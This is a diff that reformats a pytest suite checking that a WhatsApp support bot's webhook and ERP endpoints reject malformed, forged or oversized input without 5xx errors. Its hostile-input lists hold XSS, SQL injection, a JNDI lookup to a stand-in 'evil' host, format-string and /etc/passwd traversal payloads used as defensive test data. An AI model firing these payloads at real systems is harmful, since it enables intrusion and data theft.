@@ -43,14 +43,44 @@ def without(path: tuple) -> dict:
 WRONG = [None, 7, -1, 1.5, True, "", "x", [], [1], {}, {"a": 1}]
 MALFORMED: list[str | dict] = [
     # not JSON
-    "", " ", "{", "}", "[", "null", "true", "7", '"text"', "{'single': 'quotes'}", '{"event": }', "{" * 5000,
-    "[" * 100000, '{"a": NaN}', "\x00\x01\x02", "<xml/>", "event=messages.upsert", '{"event": "messages.upsert"',
-    '\ufeff{"event": 1}', '{"event": "messages.upsert", "data": {"key": {"id": "\\ud800"}}}',
+    "",
+    " ",
+    "{",
+    "}",
+    "[",
+    "null",
+    "true",
+    "7",
+    '"text"',
+    "{'single': 'quotes'}",
+    '{"event": }',
+    "{" * 5000,
+    "[" * 100000,
+    '{"a": NaN}',
+    "\x00\x01\x02",
+    "<xml/>",
+    "event=messages.upsert",
+    '{"event": "messages.upsert"',
+    '\ufeff{"event": 1}',
+    '{"event": "messages.upsert", "data": {"key": {"id": "\\ud800"}}}',
     # truncated in transit: every prefix cut of the real body
     *[json.dumps(BASE)[:cut] for cut in range(1, len(json.dumps(BASE)), len(json.dumps(BASE)) // 25)],
     # events we do not take messages from
-    *variants_of(("event",), ["messages.update", "MESSAGES_DELETE", "presence.update", "contacts.upsert",
-                              "chats.set", "send.message", "call", "groups.upsert", "x" * 1000, "messages.upsert\x00"]),
+    *variants_of(
+        ("event",),
+        [
+            "messages.update",
+            "MESSAGES_DELETE",
+            "presence.update",
+            "contacts.upsert",
+            "chats.set",
+            "send.message",
+            "call",
+            "groups.upsert",
+            "x" * 1000,
+            "messages.upsert\x00",
+        ],
+    ),
     # a 10 MB body that is not an event
     '{"event": "messages.upsert", "instance": "suporte", "data": "' + "A" * TEN_MB + '"}',
     "x" * TEN_MB,
@@ -62,8 +92,18 @@ MALFORMED: list[str | dict] = [
     *variants_of(("data", "key", "remoteJid"), [None, 7, [], "", "not-a-jid", "@s.whatsapp.net", "123@g.us"]),
     *variants_of(("data", "key", "id"), [None, 7, [], ""]),
     # missing fields
-    *[without(path) for path in (("event",), ("instance",), ("data",), ("data", "key"), ("data", "message"),
-                                  ("data", "key", "remoteJid"), ("data", "key", "id"))],
+    *[
+        without(path)
+        for path in (
+            ("event",),
+            ("instance",),
+            ("data",),
+            ("data", "key"),
+            ("data", "message"),
+            ("data", "key", "remoteJid"),
+            ("data", "key", "id"),
+        )
+    ],
 ]
 # Wrong types inside a message (not its envelope): the message is taken as one the bot does not
 # understand, or refused; never a 5xx, and what is enqueued is processed without failing.
@@ -75,11 +115,29 @@ ODD_CONTENT: list[dict] = [
     *variants_of(("data", "pushName"), [7, [], {}, None]),
 ]
 HOSTILE_TEXTS = [
-    "<script>alert('x')</script>", "'; DROP TABLE tickets; --", "{{7*7}} ${jndi:ldap://evil/a}", "\u202eabc\u202c",
-    "\u200b\u200d\ufeff", "e\u0301" * 500, "🧑🏽‍💻" * 200, "\x00nul", "ｆｕｌｌｗｉｄｔｈ", "A" * 65536, "\n" * 1000,
-    "%s%n%x", "../../etc/passwd", "\\u0000",
+    "<script>alert('x')</script>",
+    "'; DROP TABLE tickets; --",
+    "{{7*7}} ${jndi:ldap://evil/a}",
+    "\u202eabc\u202c",
+    "\u200b\u200d\ufeff",
+    "e\u0301" * 500,
+    "🧑🏽‍💻" * 200,
+    "\x00nul",
+    "ｆｕｌｌｗｉｄｔｈ",
+    "A" * 65536,
+    "\n" * 1000,
+    "%s%n%x",
+    "../../etc/passwd",
+    "\\u0000",
 ]
-HOSTILE_NAMES = ["<img src=x onerror=alert(1)>", "Robert'); DROP TABLE--", "\u202eevil", "😀" * 100, "", "A" * 5000]
+HOSTILE_NAMES = [
+    "<img src=x onerror=alert(1)>",
+    "Robert'); DROP TABLE--",
+    "\u202eevil",
+    "😀" * 100,
+    "",
+    "A" * 5000,
+]
 
 
 @pytest.fixture
@@ -109,8 +167,11 @@ def test_malformed_webhooks_never_5xx_and_change_nothing(aws, webhook, figures):
     assert all_items(aws) == before
     assert not aws.session.client("s3").list_objects_v2(Bucket=aws.bucket).get("Contents")
     assert len(statuses) >= 100
-    figures("bad input (webhook)", f"{len(statuses)} malformed or unauthenticated webhooks: statuses "
-            f"{dict(sorted({s: statuses.count(s) for s in statuses}.items()))}; enqueued 0, written 0")
+    figures(
+        "bad input (webhook)",
+        f"{len(statuses)} malformed or unauthenticated webhooks: statuses "
+        f"{dict(sorted({s: statuses.count(s) for s in statuses}.items()))}; enqueued 0, written 0",
+    )
 
 
 def test_odd_message_content_never_5xx_and_never_fails_the_processor(aws, webhook, figures):
@@ -126,9 +187,12 @@ def test_odd_message_content_never_5xx_and_never_fails_the_processor(aws, webhoo
         assert response["statusCode"] < 500, (payload["data"], response)
     handled = processor.drain(rounds=200)
     assert queue_depth(aws) == 0  # nothing failed
-    figures("bad input (odd content)", f"{len(ODD_CONTENT)} messages with wrong-typed content: statuses "
-            f"{dict(sorted({s: statuses.count(s) for s in statuses}.items()))}; {handled} enqueued, all processed "
-            f"without failure")
+    figures(
+        "bad input (odd content)",
+        f"{len(ODD_CONTENT)} messages with wrong-typed content: statuses "
+        f"{dict(sorted({s: statuses.count(s) for s in statuses}.items()))}; {handled} enqueued, all processed "
+        f"without failure",
+    )
 
 
 def test_hostile_but_well_formed_messages_are_handled_as_text(aws, webhook, figures):
@@ -142,8 +206,11 @@ def test_hostile_but_well_formed_messages_are_handled_as_text(aws, webhook, figu
     assert queue_depth(aws) == 0  # every message handled, none failed
     answered = {phone for _, phone, _ in processor.gateway.sent}
     assert answered == {phone for phone, _, _ in cases}
-    figures("bad input (hostile text)", f"{len(cases)} well-formed hostile messages (markup, injection, unicode, "
-            f"64 KB text, odd names): all answered, none failed")
+    figures(
+        "bad input (hostile text)",
+        f"{len(cases)} well-formed hostile messages (markup, injection, unicode, "
+        f"64 KB text, odd names): all answered, none failed",
+    )
 
 
 def test_malformed_erp_events_never_5xx_and_write_nothing(aws, figures):
@@ -165,23 +232,44 @@ def test_malformed_erp_events_never_5xx_and_write_nothing(aws, figures):
         headers = {"X-Timestamp": timestamp, "X-Signature": f"sha256={digest if good else '0' * 64}"}
         return http_event("POST", "/erp/events", body=body, headers=headers)
 
-    bodies = ["", "{", "[]", "null", '{"type": 7}', '{"type": "action.created"}', "x" * TEN_MB,
-              json.dumps({"type": "action.created", "event_id": "e1", "ticket_number": "abc", "text": "oi"}),
-              json.dumps({"type": "action.created", "event_id": "../../x", "ticket_number": 1}),
-              json.dumps({"type": "ticket.closed", "event_id": "e2", "ticket_number": 999999}),
-              json.dumps({"type": "action.created", "event_id": "e3", "ticket_number": 1, "text": 7}),
-              json.dumps({"type": "action.created", "event_id": "e4", "ticket_number": 1,
-                          "attachments": [{"filename": "a", "content_base64": "!!!"}]})]
+    bodies = [
+        "",
+        "{",
+        "[]",
+        "null",
+        '{"type": 7}',
+        '{"type": "action.created"}',
+        "x" * TEN_MB,
+        json.dumps({"type": "action.created", "event_id": "e1", "ticket_number": "abc", "text": "oi"}),
+        json.dumps({"type": "action.created", "event_id": "../../x", "ticket_number": 1}),
+        json.dumps({"type": "ticket.closed", "event_id": "e2", "ticket_number": 999999}),
+        json.dumps({"type": "action.created", "event_id": "e3", "ticket_number": 1, "text": 7}),
+        json.dumps(
+            {
+                "type": "action.created",
+                "event_id": "e4",
+                "ticket_number": 1,
+                "attachments": [{"filename": "a", "content_base64": "!!!"}],
+            }
+        ),
+    ]
     statuses = []
     for body in bodies:
-        for event in (signed(body), signed(body, good=False), signed(body, stale=True),
-                      http_event("POST", "/erp/events", body=body)):
+        for event in (
+            signed(body),
+            signed(body, good=False),
+            signed(body, stale=True),
+            http_event("POST", "/erp/events", body=body),
+        ):
             response = admin.invoke(event)
             statuses.append(response["statusCode"])
             assert response["statusCode"] < 500, (body[:100], response)
     assert [i for i in all_items(aws) if i not in before] == []
-    figures("bad input (ERP events)", f"{len(statuses)} malformed, forged, stale or unsigned ERP events: statuses "
-            f"{dict(sorted({s: statuses.count(s) for s in statuses}.items()))}; written 0")
+    figures(
+        "bad input (ERP events)",
+        f"{len(statuses)} malformed, forged, stale or unsigned ERP events: statuses "
+        f"{dict(sorted({s: statuses.count(s) for s in statuses}.items()))}; written 0",
+    )
 
 
 def test_a_ten_megabyte_text_is_cut_to_whatsapps_limit_not_a_5xx(aws, webhook, figures):
@@ -191,4 +279,6 @@ def test_a_ten_megabyte_text_is_cut_to_whatsapps_limit_not_a_5xx(aws, webhook, f
     assert response["statusCode"] == 200
     processor.drain()
     assert queue_depth(aws) == 0 and processor.gateway.texts_to("5511955550000")
-    figures("bad input (10 MB text)", "accepted with its text cut to WhatsApp's limit, answered, nothing failed")
+    figures(
+        "bad input (10 MB text)", "accepted with its text cut to WhatsApp's limit, answered, nothing failed"
+    )
